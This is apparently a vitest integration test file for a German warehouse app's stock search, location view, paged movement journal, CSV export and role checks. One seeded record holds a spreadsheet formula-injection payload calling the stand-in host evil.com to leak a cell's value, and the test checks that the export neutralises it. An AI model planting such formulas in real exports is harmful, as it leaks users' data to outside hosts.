import { type Kysely, sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Endpoint } from '../../src/contract/endpoint.ts';
import * as bestand from '../../src/contract/leitstand/bestand.ts';
import { texts } from '../../src/contract/texts.ts';
import * as articleNameTrgm from '../../src/server/db/migrations/2026-11-26-04-article-name-trgm.ts';
import type { Database } from '../../src/server/db/schema.ts';
import { type JournalFilter, journalPageQuery } from '../../src/server/features/leitstand/bestand/journal.ts';
import { nameCandidatesQuery } from '../../src/server/features/leitstand/bestand/service.ts';
import { demo } from '../../src/server/seed/demo.ts';
import { loginAs, startTestApp, type TestApp } from '../support/app.ts';
import { databaseKinds } from '../support/db.ts';
import { type Call, caller } from '../support/endpoint-call.ts';

const { bestandTexts, JOURNAL_CSV_COLUMNS } = bestand;

/**
 * The Leitstand's Bestand (issue 20.3): the search by every kind of code and by name, a location's
 * content, the journal's filters alone and combined — each page read by keyset against a plain SQL oracle,
 * rows with equal times included — its refusals, the CSV download of every matching row, and the roles.
 */
type Page = { success: true; zeilen: bestand.JournalZeile[]; weiter: string | null };

/** The journal's test rows: 3 locations, 2 articles, 3 users (one of them none), 4 kinds, in 2031. */
const T0 = Date.parse('2031-03-10T08:00:00Z');
const TEST_ROWS = 240;

describe.each(databaseKinds())('Leitstand Bestand on %s', (kind) => {
  let t: TestApp;
  let db: Kysely<Database>;
  let lead: string;
  let worker: string;
  let admin: string;
  const id = { article: 0, other: 0, l1: 0, l2: 0, l3: 0, lead: 0, worker: 0 };

  beforeAll(async () => {
    t = await startTestApp(kind);
    db = t.database.db;
    lead = await loginAs(t.app, demo.leadUser);
    worker = await loginAs(t.app, demo.passwordUser);
    admin = await loginAs(t.app, demo.adminUser);
    const articles = await db
      .insertInto('articles')
      .values([
        // A UPC-A stored with its leading 0, a name with the LIKE wildcards in it, a Charge like a formula.
        {
          nummer: 'J-1',
          ean: '0012345678905',
          herstellernummer: 'HN-J1',
          name: 'Journal-Testartikel 50% _rot_',
          kurzbezeichnung: 'J1',
        },
        {
          nummer: 'J-2',
          ean: '4000000000022',
          herstellernummer: 'HN-J2',
          name: 'Journal-Testartikel blau',
          kurzbezeichnung: 'J2',
        },
      ])
      .returning('id')
      .execute();
    id.article = articles[0]?.id ?? 0;
    id.other = articles[1]?.id ?? 0;
    const locations = await db
      .insertInto('locations')
      .values([
        { code: 'J-01', name: 'J-01', lagertyp: 'Fachboden' },
        { code: 'J-02', name: 'J-02', lagertyp: 'Palette' },
        { code: 'J-03', name: 'J-03', lagertyp: 'Fachboden' },
      ])
      .returning('id')
      .execute();
    [id.l1, id.l2, id.l3] = locations.map((l) => l.id) as [number, number, number];
    const users = await db
      .selectFrom('users')
      .select(['id', 'username'])
      .where('username', 'in', [demo.leadUser.username, demo.passwordUser.username])
      .execute();
    id.lead = users.find((u) => u.username === demo.leadUser.username)?.id ?? 0;
    id.worker = users.find((u) => u.username === demo.passwordUser.username)?.id ?? 0;

    // Row i: four rows share each time (ties the keyset must break by id); from/to cycle through the three
    // locations and "none" (an Inventur in, a correction out); the user cycles through lead, worker, none.
    const kinds = ['umlagerung', 'inventur', 'umbuchung', 'korrektur'] as const;
    const loc = [id.l1, id.l2, id.l3, null];
    await db
      .insertInto('movements')
      .values(
        Array.from({ length: TEST_ROWS }, (_, i) => {
          const from = loc[i % 4] ?? null;
          const to = loc[(i + 1 + (i % 3)) % 4] ?? (from === null ? id.l1 : null);
          return {
            kind: kinds[i % 4] ?? 'umlagerung',
            article_id: i % 5 === 0 ? id.other : id.article,
            from_location_id: from,
            to_location_id: from === to ? null : to,
            amount: 1 + (i % 7),
            charge: i === 7 ? '=HYPERLINK("http://evil.example/?"&A1;"Klick")' : i % 2 ? `CH-${i}` : null,
            mhd: i % 3 === 0 ? '2032-01-31' : null,
            user_id: [id.lead, id.worker, null][i % 3] ?? null,
            at: new Date(T0 + Math.floor(i / 4) * 60_000).toISOString(),
          };
        }),
      )
      .execute();
    // Stock of the test article with Charge and MHD, on two locations.
    await db
      .insertInto('stock')
      .values([
        { location_id: id.l1, article_id: id.article, charge: 'CH-A', mhd: '2032-05-01', amount: 5 },
        { location_id: id.l1, article_id: id.article, charge: null, mhd: null, amount: 3 },
        { location_id: id.l2, article_id: id.article, charge: 'CH-B', mhd: '2031-12-24', amount: 9 },
      ])
      .execute();
  });
  afterAll(() => t.close());

  const get = (e: Endpoint, call: Call = {}, token = lead) => caller(t.app, token)(e, call);
  const search = async (q: string) => {
    const res = await get(bestand.bestandArtikel, { query: { q } });
    expect(res.statusCode, res.body).toBe(200);
    return res.json<{
      artikel: { nummer: string; treffer: string; gesamt: number; bestand: Record<string, unknown>[] }[];
      mehr: boolean;
    }>();
  };

  describe('search', () => {
    it('finds the demo article by its nummer, EAN and EAN with a leading 0, with its locations', async () => {
      for (const [q, treffer] of [
        [demo.article.nummer, 'nummer'],
        [demo.article.ean, 'ean'],
        [`0${demo.article.ean}`, 'ean'],
      ] as const) {
        const found = await search(q);
        expect(found.artikel[0], q).toMatchObject({ nummer: demo.article.nummer, treffer, gesamt: 60 });
        expect(found.artikel[0]?.bestand, q).toEqual([
          expect.objectContaining({ lagerplatz: demo.locations.main, menge: 50, charge: null, mhd: null }),
          expect.objectContaining({ lagerplatz: demo.locations.second, menge: 10, charge: null, mhd: null }),
        ]);
      }
    });

    it('finds an EAN stored with a leading 0 scanned without it, and by herstellernummer', async () => {
      expect((await search('012345678905')).artikel.map((a) => [a.nummer, a.treffer])).toEqual([
        ['J-1', 'ean'],
      ]);
      expect((await search('HN-J1')).artikel.map((a) => [a.nummer, a.treffer])).toEqual([
        ['J-1', 'herstellernummer'],
      ]);
      const twins = await search(demo.ambiguousHerstellernummer);
      expect(twins.artikel.length).toBe(2);
      expect(twins.artikel.every((a) => a.treffer === 'herstellernummer')).toBe(true);
    });

    it('finds a part of the name through the trigram index, not by reading every article', {
      // 29 s in CI; the index build over 100,000 rows took 60 s and more with other files busy beside it.
      timeout: 180_000,
    }, async () => {
      // A large warehouse's articles (issue 20: 100,000), so the planner weighs the index against reading them
      // all. The index is built after them, as the migration builds it on a site's articles (row by row it
      // takes PGlite a minute).
      await sql`drop index articles_name_trgm_idx`.execute(db);
      await sql`insert into articles (nummer, name, kurzbezeichnung)
        select 'TRGM-' || n, 'Suchartikel ' || md5(n::text), 'Suchartikel'
        from generate_series(1, 100000) n`.execute(db);
      await articleNameTrgm.up(db as Kysely<unknown>);
      await sql`analyze articles`.execute(db);
      const query = nameCandidatesQuery(db, 'kugelschr').compile();
      const { rows } = await db.executeQuery<{ 'QUERY PLAN': string }>({
        ...query,
        sql: `explain ${query.sql}`,
      });
      await sql`delete from articles where nummer like 'TRGM-%'`.execute(db);
      const plan = rows.map((r) => r['QUERY PLAN']).join('\n');
      expect(plan).toMatch(/Bitmap Index Scan on articles_name_trgm_idx/);
      expect(plan).not.toMatch(/Seq Scan on articles/);
      // And it still finds what a search by name found before.
      const found = await get(bestand.bestandArtikel, { query: { q: 'kugelSCHR' } });
      expect(found.json().artikel.map((a: { nummer: string }) => a.nummer)).toContain(demo.article.nummer);
    });

    it('lists each location with amount, Charge and MHD', async () => {
      const found = await search('J-1');
      expect(found.artikel[0]).toMatchObject({ nummer: 'J-1', treffer: 'nummer', gesamt: 17 });
      expect(found.artikel[0]?.bestand).toEqual([
        {
          lagerplatz: 'J-01',
          lagerplatzName: 'J-01',
          lagertyp: 'Fachboden',
          menge: 5,
          charge: 'CH-A',
          mhd: '2032-05-01',
        },
        {
          lagerplatz: 'J-01',
          lagerplatzName: 'J-01',
          lagertyp: 'Fachboden',
          menge: 3,
          charge: null,
          mhd: null,
        },
        {
          lagerplatz: 'J-02',
          lagerplatzName: 'J-02',
          lagertyp: 'Palette',
          menge: 9,
          charge: 'CH-B',
          mhd: '2031-12-24',
        },
      ]);
    });

    it('finds a part of the name in any case; % and _ are letters there, not wildcards', async () => {
      expect((await search('journal-TESTARTIKEL')).artikel.map((a) => a.nummer)).toEqual(['J-1', 'J-2']);
      expect((await search('50%')).artikel.map((a) => a.nummer)).toEqual(['J-1']);
      expect((await search('_rot_')).artikel.map((a) => a.nummer)).toEqual(['J-1']);
      expect((await search('%%')).artikel).toEqual([]);
      const found = await search('kugelSCHREIBER');
      expect(found.artikel.length).toBeGreaterThan(0);
      expect(found.artikel.map((a) => a.nummer)).toContain(demo.article.nummer);
    });

    it('answers at most 50 articles and says there are more, code matches first', async () => {
      const many = await search('e');
      expect(many.artikel.length).toBe(50);
      expect(many.mehr).toBe(true);
      const byNummer = await search('100001');
      expect(byNummer.artikel[0]?.treffer).toBe('nummer');
    });

    it('lists a name shared by more articles than one step collects by nummer, code matches first, the same for 2 letters or more', async () => {
      // 700 articles named 'Breitband …', in a shuffled nummer order; one more whose nummer is the search.
      await sql`insert into articles (nummer, name, kurzbezeichnung)
        select 'BB-' || lpad(((n * 379) % 700)::text, 4, '0'), 'Breitband ' || n, 'BB'
        from generate_series(0, 699) n`.execute(db);
      await db
        .insertInto('articles')
        .values({ nummer: 'Breitband', name: 'Anders', kurzbezeichnung: 'X' })
        .execute();
      try {
        const byNummer = (n: number) =>
          Array.from({ length: n }, (_, i) => `BB-${String(i).padStart(4, '0')}`);
        // The nummer is a code match (exact, case and all), then the names by nummer.
        const exact = await search('Breitband');
        expect(exact.artikel.map((a) => a.nummer)).toEqual(['Breitband', ...byNummer(49)]);
        expect(exact.artikel[0]?.treffer).toBe('nummer');
        expect(exact.mehr).toBe(true);
        for (const q of ['BREITBAND', 'eitb']) {
          const found = await search(q);
          expect(
            found.artikel.map((a) => a.nummer),
            q,
          ).toEqual(byNummer(50));
          expect(found.mehr, q).toBe(true);
        }
        // Two letters (no trigram to look up): every article's name in nummer order, the same rule.
        const short = await search('tB');
        const ours = short.artikel.map((a) => a.nummer).filter((nummer) => nummer.startsWith('BB-'));
        expect(ours.slice(0, 3)).toEqual(['BB-0000', 'BB-0001', 'BB-0002']);
        expect(short.mehr).toBe(true);
      } finally {
        await db
          .deleteFrom('articles')
          .where('nummer', 'like', 'B%')
          .where('kurzbezeichnung', 'in', ['BB', 'X'])
          .execute();
      }
    });

    it('refuses an empty search in German', async () => {
      const res = await get(bestand.bestandArtikel, { query: { q: '' } });
      expect(res.statusCode).toBe(400);
      expect(res.json()).toMatchObject({ success: false, message: texts.errors.input.missing('Suche') });
    });
  });

  describe('a location', () => {
    it('shows its content with amounts, Charge and MHD', async () => {
      const res = await get(bestand.bestandLagerplatz, { params: { code: 'J-01' } });
      expect(res.statusCode).toBe(200);
      expect(res.json()).toEqual({
        success: true,
        lagerplatz: { code: 'J-01', name: 'J-01', lagertyp: 'Fachboden', lhm: false, zaehlenSeit: null },
        inhalt: [
          {
            artikelId: id.article,
            nummer: 'J-1',
            name: 'Journal-Testartikel 50% _rot_',
            menge: 5,
            charge: 'CH-A',
            mhd: '2032-05-01',
          },
          {
            artikelId: id.article,
            nummer: 'J-1',
            name: 'Journal-Testartikel 50% _rot_',
            menge: 3,
            charge: null,
            mhd: null,
          },
        ],
      });
      const main = (await get(bestand.bestandLagerplatz, { params: { code: demo.locations.main } })).json();
      expect(main.inhalt.map((r: { nummer: string }) => r.nummer)).toEqual([
        demo.article.nummer,
        demo.article3.nummer,
      ]);
    });

    it('answers an unknown location with 404 in German', async () => {
      const res = await get(bestand.bestandLagerplatz, { params: { code: 'X-99/1' } });
      expect(res.statusCode).toBe(404);
      expect(res.json()).toMatchObject({ success: false, message: texts.lookup.locationNotFound('X-99/1') });
    });
  });

  describe('the journal', () => {
    /** Plain SQL, no paging: what the filter must answer, newest first. */
    const oracle = async (f: JournalFilter): Promise<number[]> => {
      let q = db.selectFrom('movements').select('id');
      if (f.articleId) q = q.where('article_id', '=', f.articleId);
      if (f.locationId) {
        const l = f.locationId;
        q = q.where((eb) => eb.or([eb('from_location_id', '=', l), eb('to_location_id', '=', l)]));
      }
      if (f.userId) q = q.where('user_id', '=', f.userId);
      if (f.kind) q = q.where('kind', '=', f.kind);
      if (f.from) q = q.where('at', '>=', new Date(f.from));
      if (f.to) q = q.where('at', '<', new Date(f.to));
      const rows = await q.orderBy('at', 'desc').orderBy('id', 'desc').execute();
      return rows.map((r) => r.id);
    };

    /** Every page through the API, `limit` rows each. */
    const walk = async (query: Record<string, string>, limit: number) => {
      const ids: number[] = [];
      let cursor: string | null = null;
      let pages = 0;
      do {
        const res = await get(bestand.journal, {
          query: { ...query, limit: String(limit), ...(cursor ? { cursor } : {}) },
        });
        expect(res.statusCode, res.body).toBe(200);
        const page = res.json<Page>();
        expect(page.zeilen.length).toBeLessThanOrEqual(limit);
        ids.push(...page.zeilen.map((z) => z.id));
        cursor = page.weiter;
        pages++;
        expect(pages).toBeLessThan(10_000);
      } while (cursor);
      return { ids, pages };
    };

    const FROM = '2031-03-10T08:10:00Z';
    const TO = '2031-03-10T08:40:00Z';
    const filters = () =>
      [
        [{ artikel: 'J-1' }, { articleId: id.article }],
        [{ lagerplatz: 'J-02' }, { locationId: id.l2 }],
        [{ benutzer: demo.leadUser.username }, { userId: id.lead }],
        [{ art: 'inventur' }, { kind: 'inventur' }],
        [
          { von: FROM, bis: TO },
          { from: '2031-03-10T08:10:00Z', to: '2031-03-10T08:40:00Z' },
        ],
        [{ von: FROM }, { from: FROM }],
        [
          { lagerplatz: 'J-01', artikel: 'J-1' },
          { locationId: id.l1, articleId: id.article },
        ],
        [
          { lagerplatz: 'J-03', art: 'umlagerung' },
          { locationId: id.l3, kind: 'umlagerung' },
        ],
        [
          { benutzer: demo.passwordUser.username, art: 'umbuchung' },
          { userId: id.worker, kind: 'umbuchung' },
        ],
        [
          { artikel: 'J-1', lagerplatz: 'J-01', benutzer: demo.leadUser.username, von: FROM, bis: TO },
          { articleId: id.article, locationId: id.l1, userId: id.lead, from: FROM, to: TO },
        ],
      ] as [Record<string, string>, JournalFilter][];

    it('pages through every filter, alone and combined: each row once, newest first, ties by id', async () => {
      for (const [query, filter] of filters()) {
        const expected = await oracle(filter);
        expect(expected.length, JSON.stringify(query)).toBeGreaterThan(0);
        // 5 cuts through the groups of four rows with one time; 1 (for the smaller sets) through each.
        for (const limit of expected.length <= 60 ? [1, 5, 200] : [5, 200]) {
          const { ids, pages } = await walk(query, limit);
          expect(ids, `${JSON.stringify(query)} by ${limit}`).toEqual(expected);
          expect(pages).toBe(Math.ceil(expected.length / limit));
        }
      }
    });

    it('answers the rows as the journal holds them: who, what, where, how many', async () => {
      const res = await get(bestand.journal, {
        query: { artikel: 'J-1', von: FROM, bis: '2031-03-10T08:11:00Z' },
      });
      const page = res.json<Page>();
      // Minute 10 holds rows 40..43; 40 is the other article's; 43 is newest (same time, higher id).
      expect(page.zeilen.map((z) => z.id)).toHaveLength(3);
      expect(page.zeilen[0]).toEqual({
        id: expect.any(Number),
        at: '2031-03-10T08:10:00.000000Z',
        art: 'korrektur', // 43 % 4 = 3
        artikel: {
          id: id.article,
          nummer: 'J-1',
          name: 'Journal-Testartikel 50% _rot_',
        },
        von: null, // locations[43 % 4]: none
        nach: 'J-02', // locations[(43 + 1 + 43 % 3) % 4]
        menge: 1 + (43 % 7),
        charge: 'CH-43',
        mhd: null,
        benutzer: demo.passwordUser.name, // users[43 % 3]
        beleg: null,
      });
      expect(page.weiter).toBeNull();
    });

    it('takes the article by EAN and the user by name, dates as whole days in the site time zone', async () => {
      const byCode = await walk({ artikel: '012345678905' }, 200);
      expect(byCode.ids).toEqual(await oracle({ articleId: id.article }));
      const byName = await walk({ benutzer: demo.leadUser.name.toUpperCase() }, 200);
      expect(byName.ids).toEqual(await oracle({ userId: id.lead }));
      // 2031-03-10 in Europe/Berlin: from 09-23:00Z to 10-23:00Z; all test rows lie in it.
      const day = await walk({ von: '2031-03-10', bis: '2031-03-10', artikel: 'J-2' }, 200);
      expect(day.ids).toEqual(await oracle({ articleId: id.other }));
      expect((await walk({ bis: '2031-03-09', artikel: 'J-2' }, 50)).ids).toEqual([]);
      // A local time: 09:10 in Berlin is 08:10Z.
      const local = await walk({ von: '2031-03-10T09:10', artikel: 'J-2' }, 200);
      expect(local.ids).toEqual(await oracle({ articleId: id.other, from: FROM }));
    });

    it('refuses bad filters in German, naming the filter', async () => {
      const refusals: [string, number, string][] = [
        ['art=verschenkt', 400, texts.errors.input.invalid('Art')],
        ['von=2031-02-30', 400, texts.errors.input.invalid('Von')],
        ['bis=gestern', 400, texts.errors.input.invalid('Bis')],
        ['von=2031-03-11&bis=2031-03-10', 400, bestandTexts.errors.range],
        ['limit=201', 400, texts.errors.input.tooBig('Einträge je Seite', 200)],
        ['limit=0', 400, texts.errors.input.tooSmall('Einträge je Seite', 1)],
        ['limit=viele', 400, texts.errors.input.notAnId('Einträge je Seite')],
        ['cursor=nicht*gueltig', 400, texts.errors.input.notAnId('Seite')],
        [`cursor=${Buffer.from('j|gestern|1').toString('base64url')}`, 400, bestandTexts.errors.cursor],
        ['sortierung=alt', 400, texts.errors.badRequest],
        ['artikel=GIBTSNICHT', 404, texts.lookup.articleNotFound('GIBTSNICHT')],
        [
          `artikel=${demo.ambiguousHerstellernummer}`,
          400,
          bestandTexts.errors.articleAmbiguous(demo.ambiguousHerstellernummer, 2),
        ],
        ['lagerplatz=X-99', 404, texts.lookup.locationNotFound('X-99')],
        ['benutzer=niemand', 404, bestandTexts.errors.userNotFound('niemand')],
      ];
      for (const [query, status, message] of refusals) {
        for (const e of [bestand.journal, bestand.journalCsv]) {
          const path = e.path;
          if (path.endsWith('.csv') && /^(limit|cursor)=/.test(query)) continue;
          const res = await get(e, { query: Object.fromEntries(new URLSearchParams(query)) });
          expect([path, query, res.statusCode, res.json()]).toMatchObject([
            path,
            query,
            status,
            { success: false, message },
          ]);
        }
      }
    });

    it('refuses a control character in a typed filter or search, naming the field, never a server error', async () => {
      for (const [e, call, label] of [
        [bestand.bestandArtikel, { query: { q: 'a\u0000b' } }, 'Suche'],
        [bestand.bestandLagerplatz, { params: { code: 'A\u001f1' } }, 'Lagerplatz'],
        [bestand.journal, { query: { artikel: '1\u0000' } }, 'Artikel'],
        [bestand.journal, { query: { lagerplatz: 'A\n1' } }, 'Lagerplatz'],
        [bestand.journalCsv, { query: { benutzer: 'le\u007fitung' } }, 'Benutzer'],
      ] as const) {
        const res = await get(e, call);
        const url = `${e.name} ${JSON.stringify(call)}`;
        expect([url, res.statusCode, res.json()]).toMatchObject([
          url,
          400,
          { success: false, message: texts.errors.input.controlCharacterTyped(label) },
        ]);
      }
    });

    it('downloads every matching row as CSV for German Excel, text cells neutralised', async () => {
      const res = await get(bestand.journalCsv, { query: { artikel: 'J-1' } });
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toMatch(
        /^attachment; filename="journal-\d{4}-\d{2}-\d{2}\.csv"$/,
      );
      const body = res.body;
      expect(body.startsWith('\uFEFF')).toBe(true);
      const lines = body.slice(1).split('\r\n');
      expect(lines.at(-1)).toBe('');
      expect(lines[0]).toBe(JOURNAL_CSV_COLUMNS.join(';'));
      const expected = await oracle({ articleId: id.article });
      expect(lines.length - 2).toBe(expected.length);
      // The booking number, before the (here empty) Beleg: the last columns, after any quoted ';' in a Charge.
      expect(lines.slice(1, -1).map((l) => Number(l.split(';').at(-2)))).toEqual(expected);
      // Row 7: Umlagerung J-02 → J-01? (from loc[3] = none): its Charge reads as text, not as a formula.
      const row7 = lines.find((l) => l.includes('HYPERLINK'));
      expect(row7).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1;""Klick"")"`);
      // The newest row: 08:59 UTC is 09:59 in Berlin (CET).
      expect(lines[1]).toMatch(/^2031-03-10 09:59:00;/);
      const [first] = lines.slice(1);
      expect(first?.split(';').slice(1, 4)).toEqual(['Korrektur', 'J-1', 'Journal-Testartikel 50% _rot_']);
    });

    it('streams more rows than one query reads (1,000 at a time)', async () => {
      await sql`insert into movements (kind, article_id, to_location_id, amount, at)
        select 'korrektur', ${id.other}::integer, ${id.l3}::integer, 1, ${'2031-04-01T00:00:00Z'}::timestamptz + (n / 3) * interval '1 second'
        from generate_series(1, 2500) n`.execute(db);
      const res = await get(bestand.journalCsv, { query: { lagerplatz: 'J-03', von: '2031-04-01' } });
      const rows = res.body.slice(1).split('\r\n').slice(1, -1);
      expect(rows.length).toBe(2500);
      const ids = rows.map((l) => Number(l.split(';').at(-2)));
      expect(new Set(ids).size).toBe(2500);
      expect(ids).toEqual(await oracle({ locationId: id.l3, from: '2031-03-31T22:00:00Z' }));
    });

    it('reads every filter combination through an index, never the whole journal', async () => {
      // Enough rows that reading the table is the dearer plan; the planner must find an index on its own.
      await sql`insert into movements (kind, article_id, from_location_id, to_location_id, amount, user_id, at)
        select (array['umlagerung','umbuchung','inventur','korrektur'])[1 + n % 4], ${id.other}::integer,
               case when n % 2 = 0 then ${id.l3}::integer end, ${id.l2}::integer, 1,
               case when n % 5 = 0 then ${id.worker}::integer end,
               ${'2030-01-01T00:00:00Z'}::timestamptz + n * interval '1 minute'
        from generate_series(1, 30000) n`.execute(db);
      await sql`analyze movements`.execute(db);
      const parts: JournalFilter[] = [
        { articleId: id.article },
        { locationId: id.l1 },
        { userId: id.lead },
        { kind: 'inventur' },
        { from: '2031-03-10T08:10:00Z', to: '2031-03-10T08:40:00Z' },
      ];
      let checked = 0;
      for (let mask = 0; mask < 1 << parts.length; mask++) {
        const filter = Object.assign({}, ...parts.filter((_, i) => mask & (1 << i))) as JournalFilter;
        for (const after of [null, { at: '2031-03-10T08:30:00.000000Z', id: 2_000_000_000 }]) {
          const query = journalPageQuery(filter, after, 51).compile(db);
          const { rows } = await db.executeQuery<{ 'QUERY PLAN': string }>({
            ...query,
            sql: `explain ${query.sql}`,
          });
          const plan = rows.map((r) => r['QUERY PLAN']).join('\n');
          expect(plan, JSON.stringify(filter)).not.toMatch(/Seq Scan on movements/);
          // An index delivers the rows in page order, or (two selective filters) two indexes are ANDed and
          // the few rows both name are sorted.
          expect(plan, JSON.stringify(filter)).toMatch(
            /(Index (Only )?Scan (Backward )?using|Bitmap Index Scan on) movements_\w+_idx/,
          );
          checked++;
        }
      }
      expect(checked).toBe(64);
    });
  });

  describe('roles', () => {
    const calls: [Endpoint, Call][] = [
      [bestand.bestandArtikel, { query: { q: '100001' } }],
      [bestand.bestandLagerplatz, { params: { code: demo.locations.main } }],
      [bestand.journal, {}],
      [bestand.journalCsv, { query: { artikel: 'J-1' } }],
    ];

    it('refuses a worker with 403 in German, and no login with 401', async () => {
      for (const [e, call] of calls) {
        const url = e.path;
        const refused = await get(e, call, worker);
        expect([url, refused.statusCode, refused.json()]).toMatchObject([
          url,
          403,
          { success: false, message: texts.errors.role.schichtleitung },
        ]);
        const anonymous = await caller(t.app, null)(e, call);
        expect([url, anonymous.statusCode]).toEqual([url, 401]);
      }
    });

    it('lets the shift lead and the admin in', async () => {
      for (const [e, call] of calls) {
        const url = e.path;
        expect([url, (await get(e, call, lead)).statusCode]).toEqual([url, 200]);
        expect([url, (await get(e, call, admin)).statusCode]).toEqual([url, 200]);
      }
    });
  });
});
